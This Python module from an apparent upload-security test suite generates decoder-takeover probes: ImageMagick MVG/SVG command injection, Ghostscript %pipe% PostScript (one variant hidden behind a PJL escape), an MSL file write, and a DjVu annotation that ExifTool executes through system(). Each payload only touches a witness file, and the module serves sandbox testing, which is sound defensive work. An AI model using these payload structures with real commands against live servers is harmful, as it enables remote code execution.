r"""Bytes that take over the program that decodes them.

What it does
    Uploads, under the names of pictures and documents, what decoders are known to have run:
    drawing commands and scripts of ImageMagick, PostScript, also behind a printer's escape,
    annotations that ExifTool evaluated. Each would create one empty file, and it is looked for.

Why it works
    A converter finds out by itself what a file is, and some of what it finds is a language.
    Decoders are large, old and written in C: the next hole is a question of time, and the
    process that holds the accounts and the keys is the wrong place for it.

Expected defence
    Only the decoder that the checked type calls for is started, in a process that may compute
    and nothing else: no file, no network, no program, little memory, little time.

References
    - CWE-653, CWE-250, CWE-94
    - OWASP ASVS v5.0.0-15.2.5, v5.0.0-15.2.2; WSTG-BUSL-09
    - CVE-2016-3714 (ImageMagick), CVE-2018-16509 (Ghostscript), CVE-2021-22204 (ExifTool)
"""

from __future__ import annotations

import struct
import tempfile
from pathlib import Path

from hypothesis import strategies as st

from attacks.model import GENERATED, Attack, Demand, Probe, Profile, Sample, Severity
from attacks.oracles.confinement import confinement
from attacks.strategies.typed import IMAGES, holding, honest_each, of_types

WITNESS = "gauntlet-decoder"
DECODED = (*IMAGES, "pdf")


def _commands(witness: bytes) -> dict[str, bytes]:
    """Return what makes each decoder create *witness*."""
    url = b'https://gauntlet-egress.invalid/a"|touch "' + witness
    note = b"(metadata \"\\c${system('touch %s')};\")" % witness
    return {
        "drawing-commands": b"push graphic-context\nviewbox 0 0 1 1\nimage over 0,0 0,0 '%s'\n"
        b"pop graphic-context\n" % url,
        "drawing-link": b'<svg xmlns="http://www.w3.org/2000/svg" '
        b'xmlns:xlink="http://www.w3.org/1999/xlink" width="1" height="1">'
        b'<image xlink:href="%s" width="1" height="1"/></svg>' % url.replace(b'"', b"&quot;"),
        "postscript-file": b"%%!PS\n(%s) (w) file closefile\nshowpage\n" % witness,
        "postscript-pipe": b"%%!PS\n(%%pipe%%touch %s) (w) file closefile\nshowpage\n" % witness,
        # a printer's escape in front of it: what looks at the first bytes sees no PostScript
        "postscript-behind-escape": b"\x1b%%-12345X@PJL\r\n%%!PS\n(%%pipe%%touch %s) (r) file\n"
        % witness,
        "encapsulated-postscript": b"%%!PS-Adobe-3.0 EPSF-3.0\n%%%%BoundingBox: 0 0 1 1\n"
        b"(%%pipe%%touch %s) (w) file closefile\n" % witness,
        "scripted-write": b'<?xml version="1.0"?><image><read filename="xc:white"/>'
        b'<write filename="%s"/></image>' % witness,
        "annotation": _djvu(note),
    }


def _djvu(note: bytes) -> bytes:
    """Return a DjVu page with a note on it."""
    info = b"INFO" + struct.pack(">I", 10) + struct.pack(">HHBBHBB", 1, 1, 24, 0, 300, 22, 1)
    body = b"DJVU" + info + b"ANTa" + struct.pack(">I", len(note)) + note + b"\0" * (len(note) % 2)
    return b"AT&TFORM" + struct.pack(">I", len(body)) + body


def seeds(profile: Profile) -> tuple[Probe, ...]:
    """Return what takes each decoder over, under the name of each type that is decoded."""
    return tuple(
        _decoded(profile, sample, name, f"{name}-as-{sample.extension}")
        for sample in of_types(profile, *DECODED)
        for name in _commands(b"")
    )


def _decoded(
    profile: Profile, sample: Sample, name: str, variant: str = GENERATED, front: bytes = b""
) -> Probe:
    witness = Path(tempfile.gettempdir()).resolve() / WITNESS
    content = front + _commands(str(witness).encode())[name]
    return holding(
        profile,
        sample,
        content,
        variant=variant,
        demand=Demand.EITHER,
        witnesses=(str(witness),),
    )


def probes(profile: Profile) -> st.SearchStrategy[Probe]:
    """Draw a type, what its decoder is to run, and how the beginning is hidden."""
    samples = of_types(profile, *DECODED)
    if not samples:
        return st.nothing()
    return st.builds(
        lambda sample, name, front: _decoded(profile, sample, name, front=front),
        st.sampled_from(samples),
        st.sampled_from([*_commands(b"")]),
        st.sampled_from((b"", b"\n", b" ", b"\xef\xbb\xbf", b"\x04", b"\0" * 128)),
    )


ATTACK = Attack(
    id="content.decoder-abuse",
    title="Bytes that take their decoder over",
    severity=Severity.CRITICAL,
    controls=("sandboxed-processing",),
    cwe=(653, 250, 94),
    asvs=("v5.0.0-15.2.5", "v5.0.0-15.2.2"),
    wstg=("WSTG-BUSL-09",),
    oracles=(confinement,),
    seeds=seeds,
    probes=probes,
    neighbours=lambda profile: honest_each(profile, *DECODED),
)
